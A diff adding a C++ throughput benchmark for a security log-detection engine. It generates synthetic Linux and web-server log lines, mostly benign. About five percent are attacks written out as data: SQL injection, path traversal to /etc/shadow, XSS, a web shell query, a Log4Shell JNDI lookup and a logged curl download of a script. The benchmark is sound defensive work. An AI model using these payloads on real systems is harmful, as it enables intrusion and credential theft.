@@ -1,0 +1,365 @@
+// Detection throughput: events per second through decode + match (+ the stateful Detector) on one
+// core, over a generated mix of Linux and web-server log lines with a few percent attacks, with
+// every rule under the given directories (the pack plus imported Sigma rules). Not a test; built
+// with -DSOC_BENCH=ON.
+//
+//   detect_bench --rules DIR [--rules DIR ...] [--lines N] [--rounds R] [--file PATH]
+//
+// Ends with name=value lines: decode_eps, match_only_eps, detect_eps_per_core (decode + match +
+// detector), hyperscan_raw_lines_per_s (every pattern of every rule in one Hyperscan database,
+// one block scan of each raw line: the ceiling a single-field engine could reach) and
+// ratio_vs_raw. Each figure is the best of R rounds.
+#include <hs/hs.h>
+
+#include <chrono>
+#include <cstdio>
+#include <cstdlib>
+#include <fstream>
+#include <memory>
+#include <random>
+#include <string>
+#include <vector>
+
+#include "collector/decode/decoder.h"
+#include "collector/detect/detector.h"
+#include "collector/detect/engine.h"
+#include "collector/detect/rule.h"
+
+namespace {
+
+using Clock = std::chrono::steady_clock;
+
+class Generator {
+ public:
+  explicit Generator(uint32_t seed) : rng_(seed) {}
+
+  std::pair<std::string, std::string> next() {  // (src, line)
+    const unsigned r = u(100);
+    if (r < 30) return {"file:/var/log/nginx/access.log", access()};
+    if (r < 50) return {"file:/var/log/auth.log", sshd()};
+    if (r < 56) return {"file:/var/log/auth.log", sudo()};
+    if (r < 70) return {"file:/var/log/audit/audit.log", audit()};
+    if (r < 82) return {"file:/var/log/ufw.log", firewall()};
+    if (r < 88) return {"file:/var/log/app/app.json", json()};
+    return {"file:/var/log/syslog", other()};
+  }
+
+ private:
+  std::mt19937 rng_;
+  unsigned long seq_ = 0;
+
+  unsigned u(unsigned n) { return static_cast<unsigned>(rng_() % n); }
+  template <size_t N>
+  const char* pick(const char* const (&items)[N]) {
+    return items[rng_() % N];
+  }
+  std::string ip() {
+    return std::to_string(u(223) + 1) + "." + std::to_string(u(256)) + "." +
+           std::to_string(u(256)) + "." + std::to_string(u(254) + 1);
+  }
+  std::string stamp() {
+    const unsigned s = static_cast<unsigned>(seq_++ % 86400);
+    char buf[32];
+    std::snprintf(buf, sizeof buf, "Nov 23 %02u:%02u:%02u", s / 3600, s / 60 % 60, s % 60);
+    return buf;
+  }
+  std::string header(const char* program) {
+    return stamp() + " web0" + std::to_string(u(9)) + " " + program + "[" +
+           std::to_string(1000 + u(30000)) + "]: ";
+  }
+
+  std::string access() {
+    static const char* const kPaths[] = {"/",
+                                         "/index.html",
+                                         "/static/app.js",
+                                         "/api/v1/items?page=2",
+                                         "/login",
+                                         "/images/a.png",
+                                         "/search?q=ho+chi+minh",
+                                         "/wp-login.php",
+                                         "/favicon.ico",
+                                         "/news/2026/11/23/x"};
+    static const char* const kAttacks[] = {
+        "/index.php?id=1%20UNION%20SELECT%20password%20FROM%20users--",
+        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
+        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/shell.php?cmd=id",
+        "/${jndi:ldap://x.example/a}",
+        "/../../etc/shadow"};
+    static const char* const kAgents[] = {
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", "curl/8.5.0",
+        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0"};
+    const bool attack = u(100) < 5;
+    const char* path = attack ? pick(kAttacks) : pick(kPaths);
+    const char* agent = attack ? pick(kAgents) : kAgents[u(3)];
+    static const unsigned kStatus[] = {200, 200, 200, 304, 404, 500, 301};
+    return ip() + " - - [23/Nov/2026:12:" + std::to_string(10 + u(50)) + ":00 +0700] \"" +
+           (u(10) < 8 ? "GET " : "POST ") + path + " HTTP/1.1\" " + std::to_string(kStatus[u(7)]) +
+           " " + std::to_string(u(50000)) + " \"-\" \"" + agent + "\"";
+  }
+  std::string sshd() {
+    static const char* const kUsers[] = {"root", "admin", "oracle", "ubuntu", "alice", "test"};
+    const std::string src = "203.0.113." + std::to_string(u(20));
+    switch (u(5)) {
+      case 0:
+        return header("sshd") + "Failed password for " + pick(kUsers) + " from " + src + " port " +
+               std::to_string(40000 + u(20000)) + " ssh2";
+      case 1:
+        return header("sshd") + "Invalid user " + pick(kUsers) + " from " + src + " port 4000";
+      case 2:
+        return header("sshd") + "Accepted publickey for " + pick(kUsers) + " from " + ip() +
+               " port 50000 ssh2: ED25519 SHA256:abcdef";
+      case 3:
+        return header("sshd") + "Disconnected from authenticating user root " + src +
+               " port 50000 [preauth]";
+      default:
+        return header("sshd") +
+               "pam_unix(sshd:session): session opened for user alice(uid=1000) "
+               "by (uid=0)";
+    }
+  }
+  std::string sudo() {
+    static const char* const kCmds[] = {"/usr/bin/apt update", "/bin/bash",
+                                        "/usr/bin/systemctl "
+                                        "restart nginx",
+                                        "/usr/bin/cat /etc/shadow"};
+    return header("sudo") +
+           "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=" + pick(kCmds);
+  }
+  std::string audit() {
+    const std::string id =
+        "audit(1795435200." + std::to_string(u(1000)) + ":" + std::to_string(seq_) + "): ";
+    static const char* const kArgs[] = {
+        "argc=2 a0=\"ls\" a1=\"-la\"", "argc=3 a0=\"base64\" a1=\"-d\" a2=\"/tmp/x\"",
+        "argc=3 a0=\"chmod\" a1=\"+x\" a2=\"/tmp/run.sh\"",
+        "argc=4 a0=\"curl\" a1=\"-o\" a2=\"/tmp/a.sh\" a3=\"http://198.51.100.9/a.sh\"",
+        "argc=2 a0=\"cat\" a1=\"/etc/hostname\""};
+    if (u(2) == 0) return "type=EXECVE msg=" + id + pick(kArgs);
+    return "type=SYSCALL msg=" + id +
+           "arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 "
+           "ppid=100 pid=101 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 "
+           "tty=pts0 ses=1 comm=\"ls\" exe=\"/usr/bin/ls\" key=\"exec\"";
+  }
+  std::string firewall() {
+    return header("kernel") + "[UFW BLOCK] IN=eth0 OUT= MAC=00:00:00:00:00:00 SRC=" + ip() +
+           " DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=1 DF PROTO=TCP SPT=" +
+           std::to_string(1024 + u(60000)) + " DPT=" + std::to_string(u(3) ? 22 : 3389) +
+           " WINDOW=64240 RES=0x00 SYN URGP=0";
+  }
+  std::string json() {
+    return "{\"@timestamp\":\"2026-11-23T12:00:00Z\",\"level\":\"info\",\"message\":\"order " +
+           std::to_string(seq_) + " created\",\"user\":\"u" + std::to_string(u(100)) + "\"}";
+  }
+  std::string other() {
+    static const char* const kMsgs[] = {"CRON[99]: (root) CMD (run-parts /etc/cron.hourly)",
+                                        "systemd[1]: Started Daily apt download activities.",
+                                        "kernel: [12345.678] eth0: link up",
+                                        "dhclient[12]: bound to 10.0.0.5 -- renewal in 1800"};
+    return stamp() + " web01 " + pick(kMsgs);
+  }
+};
+
+struct Options {
+  std::vector<std::string> rules;
+  size_t lines = 200000;
+  int rounds = 3;
+  std::string file;
+  std::string dump_lines;     // write the input lines here (for grep over the same lines)
+  std::string dump_patterns;  // write every pattern as a POSIX ERE here (for grep -E -f)
+};
+
+// A literal as an ERE that matches it exactly.
+std::string ere_literal(const std::string& s) {
+  std::string out;
+  for (char c : s) {
+    if (std::string_view("\\.^$|?*+()[]{}").find(c) != std::string_view::npos) out += '\\';
+    out += c;
+  }
+  return out;
+}
+
+double best_rate(int rounds, size_t n, const auto& body) {
+  double best = 0;
+  for (int r = 0; r < rounds; ++r) {
+    const auto t0 = Clock::now();
+    body();
+    const double s = std::chrono::duration<double>(Clock::now() - t0).count();
+    best = std::max(best, static_cast<double>(n) / s);
+  }
+  return best;
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  Options o;
+  for (int i = 1; i < argc; ++i) {
+    const std::string a = argv[i];
+    const auto next = [&]() -> std::string {
+      if (i + 1 >= argc) {
+        std::fprintf(stderr, "detect_bench: %s needs a value\n", a.c_str());
+        std::exit(2);
+      }
+      return argv[++i];
+    };
+    if (a == "--rules") {
+      o.rules.push_back(next());
+    } else if (a == "--lines") {
+      o.lines = std::stoul(next());
+    } else if (a == "--rounds") {
+      o.rounds = std::stoi(next());
+    } else if (a == "--file") {
+      o.file = next();
+    } else if (a == "--dump-lines") {
+      o.dump_lines = next();
+    } else if (a == "--dump-patterns") {
+      o.dump_patterns = next();
+    } else {
+      std::fprintf(stderr,
+                   "usage: detect_bench --rules DIR [--rules DIR ...] [--lines N] [--rounds R] "
+                   "[--file PATH] [--dump-lines FILE] [--dump-patterns FILE]\n");
+      return 2;
+    }
+  }
+  if (o.rules.empty()) {
+    std::fprintf(stderr, "detect_bench: give at least one --rules DIR\n");
+    return 2;
+  }
+
+  std::vector<soc::Rule> rules;
+  for (const auto& dir : o.rules) {
+    auto r = soc::load_rules(dir);
+    if (!r) {
+      std::fprintf(stderr, "detect_bench: %s\n", r.error().c_str());
+      return 1;
+    }
+    for (auto& x : *r) rules.push_back(std::move(x));
+  }
+  // The raw ceiling: the same patterns in one database, each line scanned once.
+  std::vector<std::string> exprs;
+  std::vector<unsigned> flags, ids;
+  std::string eres;  // the same patterns for grep -E, one per line
+  for (const auto& r : rules) {
+    for (const auto& m : r.clauses) {
+      if (m.kind == soc::MatchKind::kExists) continue;
+      for (size_t i = 0; i < m.values.size(); ++i) {
+        const std::string& v = m.values[i];
+        switch (m.kind) {
+          case soc::MatchKind::kRegex: eres += v; break;
+          case soc::MatchKind::kEquals: eres += "^" + ere_literal(v) + "$"; break;
+          case soc::MatchKind::kStartsWith: eres += "^" + ere_literal(v); break;
+          case soc::MatchKind::kEndsWith: eres += ere_literal(v) + "$"; break;
+          default: eres += ere_literal(v);
+        }
+        eres += '\n';
+        exprs.push_back(soc::hs_expression(m, i));
+        flags.push_back(soc::hs_flags(m));
+        ids.push_back(static_cast<unsigned>(ids.size()));
+      }
+    }
+  }
+  auto engine = soc::Engine::build(std::move(rules));
+  if (!engine) {
+    std::fprintf(stderr, "detect_bench: %s\n", engine.error().c_str());
+    return 1;
+  }
+  std::vector<const char*> cexprs;
+  for (const auto& e : exprs) cexprs.push_back(e.c_str());
+  hs_database_t* raw_db = nullptr;
+  hs_compile_error_t* cerr = nullptr;
+  if (hs_compile_multi(cexprs.data(), flags.data(), ids.data(), static_cast<unsigned>(ids.size()),
+                       HS_MODE_BLOCK, nullptr, &raw_db, &cerr) != HS_SUCCESS) {
+    std::fprintf(stderr, "detect_bench: raw database: %s\n", cerr ? cerr->message : "?");
+    hs_free_compile_error(cerr);
+    return 1;
+  }
+  std::unique_ptr<hs_database_t, decltype(&hs_free_database)> raw_guard(raw_db, hs_free_database);
+  hs_scratch_t* scratch = nullptr;
+  hs_alloc_scratch(raw_db, &scratch);
+  std::unique_ptr<hs_scratch_t, decltype(&hs_free_scratch)> scratch_guard(scratch, hs_free_scratch);
+
+  // The input: generated, or a file's lines.
+  std::vector<soc::Envelope> envs;
+  if (!o.file.empty()) {
+    std::ifstream in(o.file, std::ios::binary);
+    std::string line;
+    while (envs.size() < o.lines && std::getline(in, line)) {
+      soc::Envelope e;
+      e.src = "file:" + o.file;
+      e.msg = line;
+      envs.push_back(std::move(e));
+    }
+  } else {
+    Generator g(42);
+    for (size_t i = 0; i < o.lines; ++i) {
+      auto [src, line] = g.next();
+      soc::Envelope e;
+      e.src = std::move(src);
+      e.msg = std::move(line);
+      envs.push_back(std::move(e));
+    }
+  }
+  for (size_t i = 0; i < envs.size(); ++i) {
+    envs[i].agent = "bench-agent";
+    envs[i].host = "web01";
+    envs[i].org = "BENCH";
+    envs[i].seq = i + 1;
+    envs[i].ts = "2026-11-23T12:00:00.000+07:00";
+  }
+  const size_t n = envs.size();
+  if (!o.dump_patterns.empty()) std::ofstream(o.dump_patterns, std::ios::binary) << eres;
+  if (!o.dump_lines.empty()) {
+    std::ofstream out(o.dump_lines, std::ios::binary);
+    for (const auto& e : envs) out << e.msg << '\n';
+  }
+  const soc::Decoder decoder;
+
+  std::vector<soc::Event> decoded(n);
+  const double decode_eps = best_rate(o.rounds, n, [&] {
+    for (size_t i = 0; i < n; ++i) {
+      decoded[i].env = envs[i];
+      decoder.decode(decoded[i]);
+    }
+  });
+  soc::Engine::Scratch es = (*engine)->make_scratch();
+  size_t matches = 0;
+  const double match_eps = best_rate(o.rounds, n, [&] {
+    matches = 0;
+    for (const auto& e : decoded) matches += (*engine)->match(e, es).size();
+  });
+  size_t detections = 0;
+  const double detect_eps = best_rate(o.rounds, n, [&] {
+    soc::Detector detector(**engine);  // fresh state each round
+    soc::Event e;
+    detections = 0;
+    for (size_t i = 0; i < n; ++i) {
+      e.env = envs[i];
+      decoder.decode(e);
+      detections += detector.process(e).size();
+    }
+  });
+  size_t raw_hits = 0;
+  const double raw_lps = best_rate(o.rounds, n, [&] {
+    raw_hits = 0;
+    for (const auto& env : envs) {
+      hs_scan(
+          raw_db, env.msg.data(), static_cast<unsigned>(env.msg.size()), 0, scratch,
+          [](unsigned, unsigned long long, unsigned long long, unsigned, void* ctx) -> int {
+            ++*static_cast<size_t*>(ctx);
+            return 0;
+          },
+          &raw_hits);
+    }
+  });
+
+  std::printf("rules=%zu databases=%zu patterns=%zu lines=%zu\n", (*engine)->rules().size(),
+              (*engine)->database_count(), (*engine)->pattern_count(), n);
+  std::printf("rule_matches=%zu detections=%zu\n", matches, detections);
+  std::printf("decode_eps=%.0f\n", decode_eps);
+  std::printf("match_only_eps=%.0f\n", match_eps);
+  std::printf("detect_eps_per_core=%.0f\n", detect_eps);
+  std::printf("hyperscan_raw_lines_per_s=%.0f\n", raw_lps);
+  std::printf("ratio_vs_raw=%.3f\n", detect_eps / raw_lps);
+  return 0;
+}
